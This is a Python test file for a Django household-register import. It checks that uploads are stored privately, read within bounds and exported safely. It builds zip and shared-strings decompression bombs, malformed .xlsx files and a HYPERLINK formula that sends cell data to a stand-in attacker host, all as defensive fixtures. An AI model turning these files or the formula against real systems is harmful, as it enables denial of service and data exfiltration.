"""Imports that cannot leak or crash: private files, bounded reading, read once, safe cells.

Hostile files are built by hand with zipfile (a few KB each); every refusal is asserted to
happen before python-calamine is called, so no test allocates more than a few MB.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
import python_calamine
from django.core.exceptions import ImproperlyConfigured
from django.core.files.base import ContentFile
from django.core.files.storage import FileSystemStorage, default_storage
from django.core.files.uploadhandler import FileUploadHandler
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from accounts.roles import Role
from core.storage import PrivateFileSystemStorage, private_storage
from households.importing import ImportFileError, read_table, rejected_workbook
from households.importing.batches import import_batch_abandon, import_files_sweep
from households.importing.limits import Limits, check_xlsx
from households.models import AccessLog, Community, GridGroup, ImportBatch, Member
from tests.factories import UserFactory, with_totp

from .test_import import HEADERS, family, valid_id, write_xlsx

pytestmark = pytest.mark.django_db

UPLOAD = "/admin/register/import/"


@pytest.fixture(autouse=True)
def private_root(settings, tmp_path):
    """Private and public storage in the test's own folders."""
    root = tmp_path / "private"
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PRIVATE_MEDIA_ROOT = root
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {**settings.STORAGES["private"], "OPTIONS": {"location": root}},
    }
    return root


@pytest.fixture
def world(db):
    community = Community.objects.create(name="东港社区")
    GridGroup.objects.create(community=community, name="第1小组")
    return community


@pytest.fixture
def no_calamine(monkeypatch):
    """Records (and refuses) every use of the spreadsheet reader."""
    calls = []

    class Refused:
        @staticmethod
        def from_path(*args, **kwargs):
            calls.append(args)
            raise AssertionError("the reader must not see this file")

    monkeypatch.setattr(python_calamine, "CalamineWorkbook", Refused)
    return calls


def files_in(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


def upload(client, path: Path):
    with path.open("rb") as handle:
        return client.post(UPLOAD, {"file": handle})


# --- hand-built workbooks ----------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
    '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
    '"xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="名册" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
    '"worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)


def _text(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(path: Path, sheet_data: str, *, dimension: str | None = "A1", shared=None) -> Path:
    """A minimal .xlsx: one sheet with ``sheet_data`` (the XML inside <sheetData>)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        f'.org/spreadsheetml/2006/main">{dim}<sheetData>{sheet_data}</sheetData></worksheet>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared is not None:
            with archive.open("xl/sharedStrings.xml", "w") as handle:
                shared(handle)
    return path


def xfd_workbook(path: Path, *, dimension: str | None = "A1:XFD1048576") -> Path:
    """1.6 KB that ask the reader for a grid of 16,384 × 1,048,576 cells (512 GiB)."""
    return workbook(
        path,
        f'<row r="1">{_text("A1", "姓名")}</row><row r="1048576">{_text("XFD1048576", "x")}</row>',
        dimension=dimension,
    )


def shared_strings_bomb(handle, megabytes: int = 64) -> None:
    """A shared-strings part of ``megabytes`` MB that compresses about a thousandfold."""
    handle.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
    block = b"<si><t>" + b"a" * 1000 + b"</t></si>"
    chunk = block * (1024 * 1024 // len(block))
    for _ in range(megabytes):
        handle.write(chunk)
    handle.write(b"</sst>")


def declare_size(path: Path, member: str, size: int) -> None:
    """Make the zip's headers lie about ``member``'s uncompressed size."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        if data[local + 30 : local + 30 + len(name)] == name:
            data[local + 22 : local + 26] = size.to_bytes(4, "little")
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        if data[central + 46 : central + 46 + len(name)] == name:
            data[central + 24 : central + 28] = size.to_bytes(4, "little")
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))


# --- bounded reading ---------------------------------------------------------------------------


def test_a_cell_at_xfd1048576_is_refused_before_the_reader_runs(tmp_path, no_calamine):
    path = xfd_workbook(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 2000
    with pytest.raises(ImportFileError, match="16,384 列，超过了上限 200 列"):
        read_table(path)
    assert no_calamine == []


@pytest.mark.parametrize("dimension", ["A1", None])
def test_a_sheet_that_lies_about_its_dimension_is_measured_by_its_cells(
    tmp_path, no_calamine, dimension
):
    path = xfd_workbook(tmp_path / "bomb.xlsx", dimension=dimension)
    with pytest.raises(ImportFileError, match="16,384 列"):
        read_table(path)
    assert no_calamine == []


def test_cells_without_positions_are_counted_as_the_reader_places_them(tmp_path, no_calamine):
    # No r attributes: each <c> lands right of the previous one, so the last is column 301.
    path = workbook(
        tmp_path / "wide.xlsx",
        "<row>" + "<c/>" * 300 + '<c t="inlineStr"><is><t>x</t></is></c></row>',
        dimension=None,
    )
    with pytest.raises(ImportFileError, match="超过了上限 200 列"):
        read_table(path)
    assert no_calamine == []


def test_rows_times_columns_is_bounded(tmp_path, settings, no_calamine):
    settings.IMPORT_MAX_CELLS = 10_000
    path = workbook(tmp_path / "tall.xlsx", f'<row r="1">{_text("A1", "x")}</row>'
                    f'<row r="5000">{_text("C5000", "y")}</row>')  # fmt: skip
    with pytest.raises(ImportFileError, match="表格范围太大"):
        read_table(path)
    assert no_calamine == []


@pytest.mark.parametrize(
    "cells",
    [
        # Two r attributes: a regular expression reads the first, the reader the last.
        '<row r="3"><c r="A3" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
        '<row r="3"><c r="A3" r="GR1000000" t="inlineStr"><is><t>x</t></is></c></row>',
        '<row r="3" r="1048576"><c t="inlineStr"><is><t>x</t></is></c></row>',
        # A ">" inside another attribute's value hides the r from a tag-level pattern.
        '<row r="3"><c s=">" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
        # Not well-formed, or a DOCTYPE (entities): refused, not guessed at.
        '<row r="3"><c r="A3"><v>1</v></row>',
    ],
)
def test_a_sheet_the_check_and_the_reader_could_read_differently_is_refused(
    tmp_path, no_calamine, cells
):
    path = workbook(tmp_path / "odd.xlsx", cells, dimension=None)
    with pytest.raises(ImportFileError, match=r"列|不是有效的 \.xlsx|表格范围太大"):
        read_table(path)
    assert no_calamine == []


def test_the_red_team_file_with_two_positions_in_one_cell_is_refused(tmp_path, no_calamine):
    """openpyxl's workbook without <dimension>, one cell given r="A3" r="XFD1048576"."""
    book = openpyxl.Workbook()
    book.active.append(HEADERS)
    book.save(tmp_path / "base.xlsx")
    path = tmp_path / "dupr.xlsx"
    with zipfile.ZipFile(tmp_path / "base.xlsx") as source, zipfile.ZipFile(path, "w") as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = re.sub(r"<dimension [^>]*/>", "", data.decode())
                data = text.replace(
                    "</sheetData>",
                    '<row r="3"><c r="A3" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
                    "</row></sheetData>",
                ).encode()
            out.writestr(item, data)
    with pytest.raises(ImportFileError, match=r"不是有效的 \.xlsx"):
        check_xlsx(path, Limits.from_settings())
    with pytest.raises(ImportFileError):
        read_table(path)
    assert no_calamine == []


def test_a_doctype_is_refused(tmp_path, no_calamine):
    path = workbook(tmp_path / "dtd.xlsx", f'<row r="1">{_text("A1", "x")}</row>')
    data = {}
    with zipfile.ZipFile(path) as source:
        for name in source.namelist():
            data[name] = source.read(name)
    sheet = data["xl/worksheets/sheet1.xml"].decode()
    data["xl/worksheets/sheet1.xml"] = sheet.replace(
        "?><worksheet", '?><!DOCTYPE worksheet [<!ENTITY far "XFD1048576">]><worksheet'
    ).encode()
    with zipfile.ZipFile(path, "w") as out:
        for name, content in data.items():
            out.writestr(name, content)
    with pytest.raises(ImportFileError, match=r"不是有效的 \.xlsx"):
        read_table(path)
    assert no_calamine == []


def test_a_sheet_stored_under_a_name_that_is_not_read_as_xml_is_refused(tmp_path, no_calamine):
    """The reader opens the sheet the workbook's relationships name, whatever its name."""
    path = xfd_workbook(tmp_path / "bin.xlsx")
    with zipfile.ZipFile(path) as source:
        data = {name: source.read(name) for name in source.namelist()}
    data["xl/worksheets/sheet1.bin"] = data.pop("xl/worksheets/sheet1.xml")
    rels = "xl/_rels/workbook.xml.rels"
    data[rels] = data[rels].replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.bin")
    with zipfile.ZipFile(path, "w") as out:
        for name, content in data.items():
            out.writestr(name, content)
    with pytest.raises(ImportFileError, match=r"不是有效的 \.xlsx"):
        read_table(path)
    assert no_calamine == []


def test_a_shared_strings_bomb_is_refused_before_the_reader_runs(tmp_path, no_calamine):
    path = workbook(
        tmp_path / "sst.xlsx", f'<row r="1">{_text("A1", "x")}</row>', shared=shared_strings_bomb
    )
    assert path.stat().st_size < 200_000
    with pytest.raises(ImportFileError, match="解压后大得异常"):
        read_table(path)
    assert no_calamine == []


def test_a_bomb_whose_headers_lie_about_its_size_is_measured_while_streaming(tmp_path, no_calamine):
    path = workbook(
        tmp_path / "sst.xlsx", f'<row r="1">{_text("A1", "x")}</row>', shared=shared_strings_bomb
    )
    declare_size(path, "xl/sharedStrings.xml", 1000)
    assert zipfile.ZipFile(path).getinfo("xl/sharedStrings.xml").file_size == 1000
    with pytest.raises(ImportFileError, match=r"解压后大得异常|不是有效的 \.xlsx"):
        read_table(path)
    assert no_calamine == []


def test_shared_strings_over_their_own_limit_are_refused(tmp_path, settings, no_calamine):
    import random

    settings.IMPORT_MAX_SHARED_STRINGS_MB = 1
    rng = random.Random(1)

    def incompressible(handle):  # ~2 MB of distinct strings: a low compression ratio
        handle.write(b"<sst>")
        for _ in range(60_000):
            handle.write(b"<si><t>%d</t></si>" % rng.getrandbits(64))
        handle.write(b"</sst>")

    path = workbook(
        tmp_path / "s.xlsx", f'<row r="1">{_text("A1", "x")}</row>', shared=incompressible
    )
    with pytest.raises(ImportFileError, match="共享字符串"):
        read_table(path)
    assert no_calamine == []


def test_a_normal_workbook_passes_the_checks_and_reads(world, tmp_path):
    path = write_xlsx(tmp_path / "r.xlsx", family())
    check_xlsx(path, Limits.from_settings())
    assert read_table(path).headers == HEADERS


@pytest.mark.parametrize("name", ["old.xls", "calc.ods"])
def test_formats_that_cannot_be_checked_are_refused_with_advice(tmp_path, name, no_calamine):
    path = tmp_path / name
    path.write_bytes(b"\xd0\xcf\x11\xe0" + bytes(100))
    with pytest.raises(ImportFileError, match=r"另存为 \.xlsx"):
        read_table(path)
    assert no_calamine == []


def test_a_csv_is_read_within_the_row_and_column_limits(tmp_path, settings):
    settings.IMPORT_MAX_COLUMNS = 20
    settings.IMPORT_MAX_ROWS = 100
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(f"c{i}" for i in range(30)) + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="30 列"):
        read_table(wide)
    tall = tmp_path / "tall.csv"
    tall.write_text("姓名,社区\n" + "张三,东港\n" * 150, encoding="utf-8")
    with pytest.raises(ImportFileError, match="超过了一次导入的上限 100 行"):
        read_table(tall)


# --- the upload ------------------------------------------------------------------------------


class RecordingHandler(FileUploadHandler):
    """Stands for Django's own handlers: how many bytes of the file reached them."""

    received = 0

    def receive_data_chunk(self, raw_data, start):
        RecordingHandler.received = max(RecordingHandler.received, start + len(raw_data))
        return raw_data

    def file_complete(self, file_size):
        return None


def big_csv(path: Path, megabytes: float) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADERS)
    row = family()[0]
    while buffer.tell() < megabytes * 1024 * 1024:
        writer.writerow(row)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def test_an_oversized_upload_is_stopped_on_the_way_in_with_a_message(
    client_for, tmp_path, settings, private_root
):
    settings.IMPORT_MAX_UPLOAD_MB = 1
    settings.FILE_UPLOAD_HANDLERS = [
        "tests.households.test_import_security.RecordingHandler",
        "django.core.files.uploadhandler.TemporaryFileUploadHandler",
    ]
    RecordingHandler.received = 0
    response = upload(client_for("staff"), big_csv(tmp_path / "big.csv", 3))
    assert response.status_code == 200
    assert "文件太大（超过 1 MB）" in response.content.decode()
    assert not ImportBatch.objects.exists()
    assert files_in(private_root) == [] and files_in(Path(settings.MEDIA_ROOT)) == []
    # Django's own handlers saw no more than the limit: the rest was never spooled.
    assert RecordingHandler.received <= 1024 * 1024


def test_the_upload_form_still_checks_csrf(roles, staff, tmp_path):
    client = Client(enforce_csrf_checks=True)
    client.force_login(staff)
    response = upload(client, write_xlsx(tmp_path / "r.xlsx", family()))
    assert response.status_code == 403
    assert not ImportBatch.objects.exists()


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("xfd", "16,384 列，超过了上限 200 列"),
        ("bomb", "解压后大得异常"),
        ("broken", "不是有效的 .xlsx 文件"),
        ("empty", "所提交的是空文件"),
    ],
)
def test_refused_uploads_leave_no_file_and_no_batch(
    client_for, tmp_path, settings, private_root, kind, message, no_calamine
):
    path = tmp_path / "r.xlsx"
    if kind == "xfd":
        xfd_workbook(path)
    elif kind == "bomb":
        workbook(path, f'<row r="1">{_text("A1", "x")}</row>', shared=shared_strings_bomb)
    elif kind == "broken":
        path.write_bytes(b"PK\x03\x04 not really a zip")
    else:
        path.write_bytes(b"")
    response = upload(client_for("staff"), path)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not ImportBatch.objects.exists()
    assert files_in(private_root) == [] and files_in(Path(settings.MEDIA_ROOT)) == []
    assert no_calamine == []


def test_cli_goes_through_the_same_checks(tmp_path, no_calamine):
    with pytest.raises(CommandError, match="16,384 列"):
        call_command("import_register", str(xfd_workbook(tmp_path / "bomb.xlsx")))
    with pytest.raises(CommandError, match="文件太大（超过 1 MB）"):
        call_command("import_register", str(big_csv(tmp_path / "big.csv", 1.5)), "--max-mb", "1")
    assert no_calamine == []


# --- private files -----------------------------------------------------------------------------


def test_the_upload_is_stored_privately_without_a_url(world, client_for, tmp_path, settings):
    response = upload(client_for("staff"), write_xlsx(tmp_path / "r.xlsx", family()))
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    stored = Path(batch.file.path)
    assert stored.is_relative_to(settings.PRIVATE_MEDIA_ROOT)
    assert not stored.is_relative_to(settings.MEDIA_ROOT)
    assert files_in(Path(settings.MEDIA_ROOT)) == []
    with pytest.raises(ValueError):
        batch.file.url  # noqa: B018
    assert client_for("anonymous").get(f"/media/{batch.file.name}").status_code == 404


def test_the_private_storage_refuses_a_folder_inside_the_media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    with pytest.raises(ImproperlyConfigured):
        PrivateFileSystemStorage(location=tmp_path / "media" / "private")


def _other_staff(roles) -> Client:
    user = UserFactory(name="另一位工作人员", is_staff=True)
    user.groups.add(roles[Role.STAFF])
    with_totp(user)
    client = Client()
    client.force_login(user)
    return client


def test_the_original_file_goes_back_only_to_its_uploader_and_is_logged(
    world, client_for, roles, tmp_path
):
    path = write_xlsx(tmp_path / "r.xlsx", family())
    uploader = client_for("staff")
    upload(uploader, path)
    batch = ImportBatch.objects.get()
    url = f"/admin/register/import/{batch.pk}/file/"
    assert url in uploader.get(f"/admin/register/import/{batch.pk}/").content.decode()
    before = AccessLog.objects.filter(action=AccessLog.Action.FILE).count()
    response = uploader.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == path.read_bytes()
    assert "no-store" in response["Cache-Control"]
    log = AccessLog.objects.filter(action=AccessLog.Action.FILE).latest("id")
    assert AccessLog.objects.filter(action=AccessLog.Action.FILE).count() == before + 1
    assert (log.object_type, log.object_id) == ("import_batch", batch.pk)
    other = _other_staff(roles)
    assert other.get(url).status_code == 404
    assert client_for("group_leader").get(url).status_code in (302, 403)
    assert AccessLog.objects.filter(action=AccessLog.Action.FILE).count() == before + 1


# the import takes the register import lock, outside any transaction: commit for real
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_file_is_deleted_once_the_import_is_done(
    world, client_for, tmp_path, private_root, django_capture_on_commit_callbacks, eager_jobs
):
    client = client_for("staff")
    upload(client, write_xlsx(tmp_path / "r.xlsx", family()))
    batch = ImportBatch.objects.get()
    assert len(files_in(private_root)) == 1
    form = {f"column-{i}": field for i, field in batch.mapping.items()}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/register/import/{batch.pk}/mapping/", form)
    assert len(files_in(private_root)) == 1  # kept for the import after the dry run
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/register/import/{batch.pk}/")
    batch.refresh_from_db()
    assert batch.status == "done" and Member.objects.count() == 2
    assert not batch.file
    assert files_in(private_root) == []
    assert client.get(f"/admin/register/import/{batch.pk}/file/").status_code == 404


def test_giving_a_batch_up_deletes_its_file_and_cells(
    world, client_for, tmp_path, private_root, django_capture_on_commit_callbacks
):
    client = client_for("staff")
    upload(client, write_xlsx(tmp_path / "r.xlsx", family()))
    batch = ImportBatch.objects.get()
    assert "放弃这批" in client.get(f"/admin/register/import/{batch.pk}/").content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/admin/register/import/{batch.pk}/abandon/", follow=True)
    assert "已放弃这批导入" in response.content.decode()
    batch.refresh_from_db()
    assert batch.status == "abandoned" and not batch.file and batch.samples == []
    assert files_in(private_root) == []
    # nothing more can be done with it
    mapping = client.get(f"/admin/register/import/{batch.pk}/mapping/")
    assert mapping.status_code == 302
    with pytest.raises(ImportFileError):
        import_batch_abandon(batch=batch)


def test_a_running_batch_cannot_be_given_up(world, client_for, tmp_path, private_root):
    client = client_for("staff")
    upload(client, write_xlsx(tmp_path / "r.xlsx", family()))
    batch = ImportBatch.objects.get()
    ImportBatch.objects.filter(pk=batch.pk).update(status=ImportBatch.Status.CHECKING)
    response = client.post(f"/admin/register/import/{batch.pk}/abandon/", follow=True)
    assert "请等它结束后再放弃" in response.content.decode()
    batch.refresh_from_db()
    assert batch.status == "checking" and batch.file
    assert len(files_in(private_root)) == 1


def test_abandon_needs_a_post_and_the_import_permission(world, client_for, tmp_path):
    upload(client_for("staff"), write_xlsx(tmp_path / "r.xlsx", family()))
    batch = ImportBatch.objects.get()
    url = f"/admin/register/import/{batch.pk}/abandon/"
    assert client_for("staff").get(url).status_code == 405
    assert client_for("cadre").post(url).status_code in (302, 403)
    batch.refresh_from_db()
    assert batch.status == "uploaded"


def test_the_daily_sweep_removes_leftovers_and_orphans(
    world, roles, staff, tmp_path, private_root, settings, django_capture_on_commit_callbacks
):
    assert settings.CELERY_BEAT_SCHEDULE["import-files-sweep"]["task"] == (
        "households.tasks.import_files_sweep"
    )
    storage = private_storage()

    def batch(status, days_old):
        made = ImportBatch.objects.create(
            uploaded_by=staff, original_name="r.xlsx", status=status, samples=[["王秀英"]],
            file=storage.save("imports/2026/12/r.xlsx", ContentFile(b"x")),
        )  # fmt: skip
        ImportBatch.objects.filter(pk=made.pk).update(
            created_at=timezone.now() - timedelta(days=days_old)
        )
        return made

    stale = batch(ImportBatch.Status.CHECKED, 8)
    fresh = batch(ImportBatch.Status.UPLOADED, 2)
    done = batch(ImportBatch.Status.DONE, 1)  # its deletion failed once
    old_orphan = storage.save("imports/2026/11/lost.xlsx", ContentFile(b"x"))
    young_orphan = storage.save("imports/2026/12/saving.xlsx", ContentFile(b"x"))
    import os

    two_days_ago = (timezone.now() - timedelta(days=2)).timestamp()
    os.utime(storage.path(old_orphan), (two_days_ago, two_days_ago))
    from households.tasks import import_files_sweep as task

    # The job's work, run here also when a broker is configured (beat enqueues it in production;
    # a real worker would look in its own private folder). Files go once the deletions commit.
    with django_capture_on_commit_callbacks(execute=True):
        result = task.apply().get()
    assert result == {"abandoned": 1, "orphans": 1}
    for made in (stale, fresh, done):
        made.refresh_from_db()
    assert stale.status == "abandoned" and not stale.file and stale.samples == []
    assert "7 天" in stale.error
    assert fresh.status == "uploaded" and storage.exists(fresh.file.name)
    assert not done.file
    assert not storage.exists(old_orphan) and storage.exists(young_orphan)
    remaining = {str(p.relative_to(private_root)) for p in files_in(private_root)}
    assert remaining == {fresh.file.name, young_orphan}
    with django_capture_on_commit_callbacks(execute=True):
        assert import_files_sweep() == {"abandoned": 0, "orphans": 0}


def test_the_migration_moves_old_uploads_out_of_the_media_root(roles, staff, settings):
    from importlib import import_module

    from django.apps import apps

    migration = import_module("households.migrations.0007_import_files_to_private_storage")
    public = FileSystemStorage(location=settings.MEDIA_ROOT)
    assert default_storage.location == public.location
    pending = public.save("imports/2026/12/register.xlsx", ContentFile(b"pending"))
    finished = public.save("imports/2026/12/register_a.xlsx", ContentFile(b"done"))
    failed_upload = public.save("imports/2026/11/register.csv", ContentFile(b"orphan"))
    keep = public.save("images/photo.png", ContentFile(b"png"))
    waiting = ImportBatch.objects.create(uploaded_by=staff, original_name="a", file=pending)
    imported = ImportBatch.objects.create(
        uploaded_by=staff, original_name="b", file=finished, status="done"
    )
    migration.move_files(apps, None)
    waiting.refresh_from_db()
    imported.refresh_from_db()
    assert private_storage().open(waiting.file.name).read() == b"pending"
    assert not imported.file
    assert not any(public.exists(n) for n in (pending, finished, failed_upload))
    assert public.exists(keep)


# --- read once --------------------------------------------------------------------------------


def test_the_mapping_page_shows_masked_samples_from_the_batch_and_logs(
    world, client_for, tmp_path, monkeypatch
):
    client = client_for("staff")
    upload(client, write_xlsx(tmp_path / "r.xlsx", family()))
    batch = ImportBatch.objects.get()
    from households.importing import batches, reading

    def never(*args, **kwargs):
        raise AssertionError("the mapping page must not read the file")

    monkeypatch.setattr(reading, "read_table", never)
    monkeypatch.setattr(batches, "read_table", never)
    batch.file.storage.delete(batch.file.name)
    before = AccessLog.objects.count()
    page = client.get(f"/admin/register/import/{batch.pk}/mapping/").content.decode()
    assert "王秀英" in page  # the samples help choose the columns …
    assert "138****5678" in page
    assert "13812345678" not in page and valid_id() not in page  # … without the numbers
    log = AccessLog.objects.latest("id")
    assert AccessLog.objects.count() == before + 1
    assert (log.action, log.object_type, log.object_id) == ("file", "import_batch", batch.pk)


def test_the_dry_run_is_queued_without_reading_the_file_in_the_request(
    world, client_for, tmp_path, monkeypatch, django_capture_on_commit_callbacks
):
    client = client_for("staff")
    upload(client, write_xlsx(tmp_path / "r.xlsx", family()))
    batch = ImportBatch.objects.get()
    from households.importing import batches

    reads = []
    monkeypatch.setattr(batches, "read_table", lambda *a, **k: reads.append(a))
    form = {f"column-{i}": field for i, field in batch.mapping.items()}
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(f"/admin/register/import/{batch.pk}/mapping/", form)
    assert response.status_code == 302
    assert reads == [] and len(callbacks) == 1  # the job, queued after commit
    batch.refresh_from_db()
    assert batch.status == "checking"


def test_a_job_whose_file_is_gone_fails_with_a_message(world, staff, eager_jobs):
    batch = ImportBatch.objects.create(
        uploaded_by=staff, original_name="r.xlsx", status=ImportBatch.Status.CHECKING,
        headers=HEADERS, mapping={"0": "community", "4": "name", "6": "category"},
    )  # fmt: skip
    from households.importing.batches import import_batch_process

    batch = import_batch_process(batch_id=batch.pk, write=False)
    assert batch.status == "failed" and "已经删除" in batch.error


# --- safe cells ------------------------------------------------------------------------------


def test_the_rejected_rows_workbook_writes_no_formula_and_its_download_is_logged(
    world, client_for, staff, tmp_path
):
    attack = '=HYPERLINK("http://evil.example/?"&J2,"点此")'
    rejected = [
        {"row": 2, "column": "手机", "reason": "号码不对", "cells": [attack, "+8613812345678"]},
    ]
    content = rejected_workbook(["=1+1", "@SUM(A1)"], rejected)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert sheet["D2"].value == "'" + attack
    batch = ImportBatch.objects.create(
        uploaded_by=staff, original_name="r.xlsx", headers=["姓名", "手机"], rejected=rejected
    )
    client = client_for("staff")
    before = AccessLog.objects.count()
    response = client.get(f"/admin/register/import/{batch.pk}/rejected.xlsx")
    assert response.status_code == 200
    log = AccessLog.objects.latest("id")
    assert AccessLog.objects.count() == before + 1
    assert (log.action, log.object_type, log.object_id) == ("file", "import_batch", batch.pk)


def test_the_batch_page_masks_the_numbers_quoted_in_reasons(world, client_for, staff):
    number = valid_id()
    batch = ImportBatch.objects.create(
        uploaded_by=staff, original_name="r.xlsx", status=ImportBatch.Status.CHECKED,
        headers=["姓名", "身份证号"], summary={"rows": 1},
        rejected=[{"row": 2, "column": "身份证号", "reason": f"身份证号“{number}”不对",
                   "cells": ["王秀英", number]}],
    )  # fmt: skip
    page = client_for("staff").get(f"/admin/register/import/{batch.pk}/").content.decode()
    assert number not in page
    assert f"身份证号“{number[:4]}{'*' * 10}{number[-4:]}”不对" in page


# --- messages and masking ----------------------------------------------------------------------


def test_a_csv_field_over_the_csv_limit_is_refused_in_chinese(tmp_path, caplog):
    path = tmp_path / "big.csv"
    path.write_text("姓名,社区\n张三," + "x" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError) as refused:
        read_table(path)
    message = str(refused.value)
    assert "内容太长（超过 131,072 个字符）" in message
    assert "field" not in message and "limit" not in message
    assert "field larger than field limit" in caplog.text  # the admin's log keeps it


def test_the_readers_own_error_stays_out_of_the_message(tmp_path, caplog):
    path = workbook(tmp_path / "ent.xlsx", '<row r="3"><c r="E&#57;"><v>1</v></c></row>')
    with pytest.raises(ImportFileError) as refused:
        read_table(path)
    message = str(refused.value)
    assert message.startswith("文件打不开：内容已损坏")
    assert "Expecting" not in message and "alphanumeric" not in message
    assert "Expecting alphanumeric character" in caplog.text


@pytest.mark.parametrize(
    "written",
    [
        "138.5551.2345",
        "138/5551/2345",
        "138\\5551\\2345",
        "138_5551_2345",
        "138 – 5551 – 2345",
        "１３８．５５５１．２３４５",
        "１３８５５５１２３４５",
        "138－5551－2345",
        "138　5551　2345",
    ],
)
def test_sample_numbers_are_masked_whatever_separates_their_digits(written):
    from households.importing.batches import mask_numbers

    masked = mask_numbers(f"电话：{written}。")
    assert "5551" not in masked and "５５５１" not in masked
    assert masked.count("*") == 4
    assert masked.startswith("电话：") and masked.endswith("。")
